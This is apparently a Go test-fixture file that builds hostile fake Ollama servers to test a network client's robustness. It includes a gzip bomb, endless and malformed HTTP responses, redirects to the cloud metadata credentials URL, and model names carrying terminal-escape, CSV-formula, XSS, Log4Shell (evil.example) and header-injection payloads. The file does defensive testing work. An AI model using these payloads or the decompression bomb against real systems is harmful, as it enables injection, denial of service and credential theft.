package ollamatest

import (
	"bufio"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"gatehouse/internal/ollama"
)

// hostile returns hosts that lie, stall and break rules. The last three are
// honest Ollamas whose models have rude names.
func hostile() []*Server {
	talks := func(name, outcome string, talk func(*Server, net.Conn)) *Server {
		return &Server{Name: "hostile/" + name, talk: talk, Truth: either(outcome)}
	}
	says := func(name, outcome string, say func(*Request) reply) *Server {
		return &Server{Name: "hostile/" + name, say: say, stack: goServer, Truth: either(outcome)}
	}
	// only answers GET /api/tags with body, and the rest as Ollama does.
	only := func(name, outcome, body string) *Server {
		o := Ollama{}.Server("hostile/" + name)
		e := Ollama{}.engine()
		e.tags = jsonReply(200, body).gin()
		o.say = e.say
		if outcome != "open" {
			o.Truth = Truth{Outcome: outcome}
		}
		return o
	}
	named := func(names ...string) *Server {
		return Ollama{Models: renamed(names...)}.Server("")
	}
	rude := named("\x1b[2J\x1b[H\x1b]0;pwned\x07:latest", "\x1b]8;;http://evil.example\x1b\\llama\x1b]8;;\x1b\\:latest", "a\r\nSet-Cookie: b\x00\u202egnp.exe:latest")
	rude.Name = "hostile/terminal-escapes"
	formula := named("=HYPERLINK(\"http://evil.example\"):latest", "+1+cmd|' /C calc'!A0:latest", "@SUM(1):latest", "-2+3:latest", "\t=1:latest")
	formula.Name = "hostile/csv-formulas"
	markup := named("<script>alert(1)</script>:latest", "\"onmouseover=\"alert(1):latest", "${jndi:ldap://evil.example/a}:latest", strings.Repeat("a", 5000)+":latest")
	markup.Name = "hostile/markup"

	return []*Server{
		talks("never-answers", "silent", func(_ *Server, c net.Conn) { drain(c) }),
		talks("closes-at-once", "silent|broken", func(*Server, net.Conn) {}),
		talks("reset", "refused|broken", reset),
		talks("reset-after-request", "broken", func(s *Server, c net.Conn) { hear(s, c); reset(s, c) }),
		talks("half-answer", "broken", after("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 17\r\n\r\nOllama is")),
		talks("slow-bytes", "broken|silent", drip("HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n"+strings.Repeat("x", 1000), time.Second)),
		talks("slow-headers", "broken|silent", drip("HTTP/1.1 200 OK\r\n"+strings.Repeat("X-Drip: 1\r\n", 1000), 500*time.Millisecond)),
		talks("slow-body", "broken|silent", func(s *Server, c net.Conn) {
			hear(s, c)
			_, _ = io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 17\r\n\r\nOllama")
			drain(c)
		}),
		talks("endless-headers", "broken", endless("HTTP/1.1 200 OK\r\n", "X-Padding: "+strings.Repeat("a", 1000)+"\r\n")),
		talks("endless-header-line", "broken", endless("HTTP/1.1 200 OK\r\nX-Padding: ", strings.Repeat("a", 1024))),
		talks("endless-status", "broken", endless("HTTP/1.1 200 ", strings.Repeat("O", 1024))),
		talks("endless-body", "broken", endless("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n", strings.Repeat(" ", 4096))),
		talks("endless-chunks", "broken", endless("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", "400\r\n"+strings.Repeat(" ", 1024)+"\r\n")),
		talks("endless-1xx", "broken", endless("", "HTTP/1.1 100 Continue\r\n\r\n")),
		talks("gzip-bomb", "broken", func(s *Server, c net.Conn) { hear(s, c); _, _ = c.Write(bomb()) }),
		talks("length-10-gb", "broken", endless("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 10737418240\r\n\r\n", strings.Repeat(" ", 4096))),
		talks("length-negative", "broken", after("HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\nOllama is running")),
		talks("length-conflict", "broken", after("HTTP/1.1 200 OK\r\nContent-Length: 17\r\nContent-Length: 5\r\n\r\nOllama is running")),
		talks("length-and-chunks", "broken", after("HTTP/1.1 200 OK\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nOllama is running\r\n0\r\n\r\n")),
		talks("chunk-sizes-wrong", "broken", after("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nOllama is running\r\n0\r\n\r\n")),
		talks("chunk-size-huge", "broken", after("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\nOllama\r\n")),
		says("redirect-metadata", "broken|other", deny(login("http://169.254.169.254/latest/meta-data/iam/security-credentials/"))),
		says("redirect-loopback", "broken|other", deny(login("http://127.0.0.1:22/"))),
		says("redirect-loop", "broken|other", deny(login("/"))),
		talks("header-nul", "broken", after("HTTP/1.1 200 OK\r\nContent-Length: 17\r\nX-A: b\x00c\r\n\r\nOllama is running")),
		talks("header-no-colon", "broken", after("HTTP/1.1 200 OK\r\nContent-Length: 17\r\nnonsense\r\n\r\nOllama is running")),
		talks("header-bare-cr", "broken", after("HTTP/1.1 200 OK\r\nX-A: b\rSet-Cookie: c\r\nContent-Length: 17\r\n\r\nOllama is running")),
		talks("status-word", "broken|other", after("HTTP/1.1 OK 200\r\nContent-Length: 17\r\n\r\nOllama is running")),
		talks("status-999", "broken|other", after("HTTP/1.1 999 Request Denied\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")),
		talks("http-0.9", "broken|other", after("<html>Ollama is running</html>\n")),
		talks("http-2-preface", "broken|other", func(_ *Server, c net.Conn) {
			_, _ = c.Write([]byte("\x00\x00\x12\x04\x00\x00\x00\x00\x00\x00\x03\x00\x00\x00\x64\x00\x04\x00\x10\x00\x00\x00\x06\x00\x01\x00\x00"))
			drain(c)
		}),
		talks("http-7", "broken|other", after("HTTP/7.3 200 OK\r\nContent-Length: 17\r\n\r\nOllama is running")),
		talks("tls-alert", "broken|other", func(s *Server, c net.Conn) { // handshake_failure to whatever comes
			_, _ = c.Read(make([]byte, 512))
			_, _ = c.Write([]byte{0x15, 3, 3, 0, 2, 2, 40})
		}),
		talks("answers-before-asked", "broken|other", func(_ *Server, c net.Conn) {
			_, _ = io.WriteString(c, strings.Repeat("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}", 20))
			drain(c)
		}),
		talks("random-bytes", "broken|other", func(s *Server, c net.Conn) {
			hear(s, c)
			rng := seed("random-bytes")
			noise := make([]byte, 4096)
			for i := range noise {
				noise[i] = byte(rng.Uint32())
			}
			_, _ = c.Write(noise)
		}),
		talks("million-models", "broken", millionModels),
		only("json-deep", "broken", strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000)),
		only("json-deep-models", "broken", `{"models":`+strings.Repeat(`[{"a":`, 50_000)+"1"+strings.Repeat("}]", 50_000)+"}"),
		only("json-duplicate-keys", "broken", `{"models":[],"models":[{"name":"a","name":"b","size":1,"size":2}]}`),
		only("json-nan", "broken", `{"models":[{"name":"a:latest","model":"a:latest","size":NaN,"digest":"`+strings.Repeat("ab", 32)+`"}]}`),
		only("json-cut", "broken", `{"models":[{"name":"a:latest","model":"a:lat`),
		only("json-trailing", "broken", `{"models":[]}{"models":[]} trailing`),
		only("json-huge-number", "broken", `{"models":[{"name":"a:latest","size":`+strings.Repeat("9", 100_000)+`}`),
		only("names-invalid-utf8", "broken", "{\"models\":[{\"name\":\"\xff\xfe\xc0\xaf:latest\",\"model\":\"\xed\xa0\x80\"}]}"),
		says("other-host", "broken|other", func(*Request) reply {
			return text(421, "Misdirected Request: this is www.example, not who you asked for\n").with("X-Served-By: www.example")
		}),
		rude, formula, markup,
	}
}

// banners returns services that are not HTTP, on a port where HTTP was hoped for.
func banners() []*Server {
	first := func(name, banner, then string) *Server {
		return &Server{Name: "other/" + name, Truth: either("other|broken"), talk: func(_ *Server, c net.Conn) {
			if _, err := io.WriteString(c, banner); err != nil {
				return
			}
			_, _ = c.Read(make([]byte, 1024))
			_, _ = io.WriteString(c, then)
		}}
	}
	return []*Server{
		first("ssh", "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5\r\n", "Invalid SSH identification string.\r\n"),
		first("smtp", "220 mail.example ESMTP Postfix (Ubuntu)\r\n", "221 2.7.0 Error: I can break rules, too. Goodbye.\r\n"),
		first("ftp", "220 (vsFTPd 3.0.5)\r\n", "530 Please login with USER and PASS.\r\n"),
		first("redis", "", "-ERR wrong number of arguments for 'get' command\r\n"),
		first("mysql", "J\x00\x00\x00\n8.0.39\x00\x08\x00\x00\x00abcdefgh\x00\xff\xf7", ""),
	}
}

// either is the truth about a host of which two outcomes may be said.
func either(outcomes string) Truth {
	one, or, _ := strings.Cut(outcomes, "|")
	return Truth{Outcome: one, Or: or}
}

// hear reads one request and counts it.
func hear(s *Server, c net.Conn) {
	b := buffers.Get().(*buffer)
	defer b.free()
	for {
		n, err := c.Read(b.in[b.n:])
		b.n += n
		var r Request
		if _, bad := r.parse(b.in[:b.n]); bad == nil {
			s.note(&r)
			return
		} else if bad != errIncomplete || err != nil || b.n == len(b.in) {
			return
		}
	}
}

// drain listens until the visitor goes away.
func drain(c net.Conn) { _, _ = io.Copy(io.Discard, c) }

// reset ends the connection with RST instead of FIN.
func reset(_ *Server, c net.Conn) {
	if t, ok := c.(*net.TCPConn); ok {
		_ = t.SetLinger(0)
	}
}

// after says what, after a request, and ends the connection.
func after(what string) func(*Server, net.Conn) {
	return func(s *Server, c net.Conn) {
		hear(s, c)
		_, _ = io.WriteString(c, what)
	}
}

// drip says what byte by byte, one in every interval.
func drip(what string, every time.Duration) func(*Server, net.Conn) {
	return func(s *Server, c net.Conn) {
		hear(s, c)
		gone := make(chan struct{})
		go func() { drain(c); close(gone) }()
		tick := time.NewTicker(every)
		defer tick.Stop()
		for i := range len(what) {
			select {
			case <-gone:
				return
			case <-tick.C:
			}
			if _, err := io.WriteString(c, what[i:i+1]); err != nil {
				break
			}
		}
		_ = c.Close() // ends drain
		<-gone
	}
}

// endless says first, and then again and again until the visitor is gone.
func endless(first, again string) func(*Server, net.Conn) {
	return func(s *Server, c net.Conn) {
		hear(s, c)
		if _, err := io.WriteString(c, first); err != nil {
			return
		}
		again := []byte(strings.Repeat(again, max(1, 16<<10/len(again))))
		for {
			if _, err := c.Write(again); err != nil {
				return
			}
		}
	}
}

// bomb is an answer of 1 MiB that unpacks to 1 GiB. What 1 MiB of zeros packs to
// looks back no further than one byte, so it may stand 1,024 times in a row.
var bomb = sync.OnceValue(func() []byte {
	var block bytes.Buffer
	zeros := make([]byte, 1<<20)
	z, err := flate.NewWriter(&block, flate.BestCompression)
	if err != nil {
		panic(err) // no such level
	}
	_, _ = z.Write(zeros) // a Buffer takes all
	_ = z.Flush()

	// The gzip frame round it: RFC 1952, section 2.3.
	packed := []byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255}
	var sum uint32
	for range 1024 {
		packed = append(packed, block.Bytes()...)
		sum = crc32.Update(sum, crc32.IEEETable, zeros)
	}
	packed = append(packed, 1, 0, 0, 0xff, 0xff) // an empty last block
	packed = binary.LittleEndian.AppendUint32(packed, sum)
	packed = binary.LittleEndian.AppendUint32(packed, 1<<30)
	head := fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n", len(packed))
	return append([]byte(head), packed...)
})

// millionModels answers as Ollama does, but lists a million models.
func millionModels(s *Server, c net.Conn) {
	b := bufio.NewReader(c)
	for {
		line, err := b.ReadString('\n')
		if err != nil {
			return
		}
		for rest := ""; rest != "\r\n"; {
			if rest, err = b.ReadString('\n'); err != nil {
				return
			}
		}
		body := ""
		switch {
		case strings.HasPrefix(line, "GET / "):
			body = ollama.Banner
		case strings.HasPrefix(line, "GET /api/version "):
			body = `{"version":"` + Newest + `"}`
		case strings.HasPrefix(line, "GET /api/tags "):
			listMillion(c)
			return
		default:
			body = `{"models":[]}`
		}
		if _, err := fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s", len(body), body); err != nil {
			return
		}
	}
}

func listMillion(c net.Conn) {
	w := bufio.NewWriterSize(c, 16<<10)
	_, _ = w.WriteString("HTTP/1.1 200 OK\r\nContent-Type: application/json; charset=utf-8\r\nConnection: close\r\n\r\n{\"models\":[")
	for i := range 1_000_000 {
		if i > 0 {
			_ = w.WriteByte(',')
		}
		if _, err := fmt.Fprintf(w, `{"name":"m%d:latest","model":"m%d:latest","modified_at":"2026-01-01T00:00:00Z","size":%d,"digest":"%064x","details":{}}`,
			i, i, i+1, i); err != nil {
			return
		}
	}
	_, _ = w.WriteString("]}")
	_ = w.Flush()
}
